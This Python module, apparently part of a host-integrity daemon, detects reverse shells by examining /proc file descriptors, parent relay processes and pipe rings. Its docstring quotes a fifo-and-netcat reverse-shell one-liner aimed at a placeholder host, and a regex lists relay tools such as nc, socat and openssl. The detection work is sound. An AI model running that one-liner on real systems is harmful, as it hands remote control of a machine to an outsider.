"""Whether somebody at the other end of a network connection types into a shell.

Three ways are known: the shell's own input and output are the connection; they are a terminal that a program like
python or socat holds, whose own are the connection; or they are pipes in a ring with such a program (the way of
`mkfifo f; cat f | sh | nc HOST PORT > f`).
"""

from __future__ import annotations

import os
import re
import stat
from collections.abc import Mapping

from dio_daemon.detect.integrity.facts import DELETED, place_of, socket_inode, sockets_of, status_of
from dio_daemon.detect.integrity.host import Host
from dio_daemon.detect.integrity.net import ESTABLISHED, Connection, connections

SHELLS = frozenset(
    ("sh", "dash", "bash", "zsh", "ksh", "ksh93", "mksh", "ash", "busybox", "fish", "tcsh", "csh", "rbash")
)
RELAYS = re.compile(
    r"(python|perl|ruby|php|node|lua|tclsh|nc|ncat|netcat|socat|openssl|telnet|gawk|awk|busybox)"
    r"[0-9.]*([.-](openbsd|traditional))?"
)
"""Programs that pass on what they read; an SSH server is none of them."""
_STANDARD = (0, 1, 2)


def is_shell(exe: str) -> bool:
    """Whether an executable is a shell."""
    return os.path.basename(exe.removesuffix(DELETED)) in SHELLS


def remote_end(host: Host, pid: int, exes: Mapping[int, str]) -> Connection | None:
    """The connection that a shell is typed into from; None when there is none.

    Args:
        host: whose processes.
        pid: the shell.
        exes: the executables of all processes.
    """
    direct = _standard_connection(host, pid)
    if direct is not None:
        return direct
    links = [_link(host, pid, number) for number in _STANDARD[:2]]
    if all(link.startswith("/dev/pts/") for link in links):
        _, parent = status_of(host, pid)
        if parent is not None and _is_relay(exes.get(parent, "")):
            return _standard_connection(host, parent)
    elif all(_is_pipe(host, pid, number) for number in _STANDARD[:2]):
        return _over_pipes(host, links[0], links[1], exes)
    return None


def _over_pipes(host: Host, read_from: str, written_to: str, exes: Mapping[int, str]) -> Connection | None:
    """The connection of the program that reads what the shell writes, and writes into a pipe itself."""
    for pid, exe in exes.items():
        if not _is_relay(exe) or _link(host, pid, 0) != written_to or not _is_pipe(host, pid, 1):
            continue
        back = _link(host, pid, 1)
        if back == read_from or back.startswith("/"):
            found = _connection(host, pid, sockets_of(host, pid))
            if found is not None:
                return found
    return None


def _standard_connection(host: Host, pid: int) -> Connection | None:
    inodes = {socket_inode(f"{host.proc}/{pid}/fd/{number}") for number in _STANDARD} - {None}
    return _connection(host, pid, {inode for inode in inodes if inode is not None})


def _connection(host: Host, pid: int, inodes: set[int]) -> Connection | None:
    if not inodes:
        return None
    unit = place_of(host, pid).unit or ""
    if "@" in unit and unit.endswith(".service") and not unit.startswith("user@"):
        return None  # systemd runs it for each connection of a socket unit
    for each in connections(f"{host.proc}/{pid}/net"):
        if each.inode in inodes and (each.state == ESTABLISHED or each.protocol == "udp"):
            return each
    return None


def _is_relay(exe: str) -> bool:
    return RELAYS.fullmatch(os.path.basename(exe.removesuffix(DELETED))) is not None


def _link(host: Host, pid: int, number: int) -> str:
    try:
        return os.readlink(f"{host.proc}/{pid}/fd/{number}")
    except OSError:
        return ""


def _is_pipe(host: Host, pid: int, number: int) -> bool:
    """Whether it is a pipe, with or without a name. Nothing is opened."""
    try:
        return stat.S_ISFIFO(os.stat(f"{host.proc}/{pid}/fd/{number}").st_mode)
    except OSError:
        return False
